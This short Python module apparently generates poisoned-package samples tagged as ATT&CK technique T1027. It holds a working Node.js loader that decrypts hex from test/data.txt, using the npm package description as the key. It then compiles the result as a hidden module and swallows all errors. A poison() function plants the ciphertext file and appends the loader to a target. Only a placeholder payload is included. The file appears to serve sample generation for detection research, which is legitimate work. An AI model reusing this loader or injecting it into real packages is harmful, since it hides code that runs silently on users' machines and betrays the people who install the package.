# SPDX-License-Identifier: Apache-2.0
"""Deciphers code with a key from elsewhere and compiles it as a module."""

ATTACK = "T1027"
LANGUAGE = "node"
CODE = """\
;(function () {
  try {
    var crypto = require('crypto');
    var d = crypto.createDecipher('aes256', process.env['npm_package_description'] || 'k');
    var text = require('fs').readFileSync(__dirname + '/test/data.txt', 'utf8');
    var plain = d.update(text, 'hex', 'utf8') + d.final('utf8');
    var m = new module.constructor();
    m.paths = module.paths;
    m._compile(plain, '');
  } catch (e) {}
})();
"""


def poison(layer):
    layer.inside("test/data.txt", "a3f1" * 64)
    layer.append(CODE)
